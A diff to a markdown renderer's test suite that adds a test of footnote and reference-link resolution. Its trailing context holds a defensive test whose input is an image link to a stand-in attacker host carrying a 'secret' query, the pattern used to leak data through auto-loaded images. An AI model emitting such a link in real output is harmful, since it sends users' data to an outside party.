@@ -80,6 +80,18 @@ describe("markdown", () => {
     expect(box.textContent).toContain("bad");
   });
 
+  it("resolves what one block defines and another one names", () => {
+    const text = "See [the site][1], and a note[^n].\n\nMore.\n\n[1]: https://example.org\n\n[^n]: The text of the note.";
+    const box = draw(text);
+    expect(box.querySelector("a")?.href).toBe("https://example.org/");
+    expect(box.textContent).toContain("The text of the note.");
+    const reference = box.querySelector("sup a"), note = box.querySelector("section li");
+    expect(reference?.getAttribute("href")).toBe(`#${note?.id ?? ""}`);
+    expect(reference?.getAttribute("target")).toBeNull();
+    const other = draw(text).querySelector("section li");
+    expect(other?.id).not.toBe(note?.id);
+  });
+
   it("loads no image", () => {
     const box = draw("![the weather](https://evil.example/?q=secret)");
     expect(box.querySelector("img")).toBeNull();
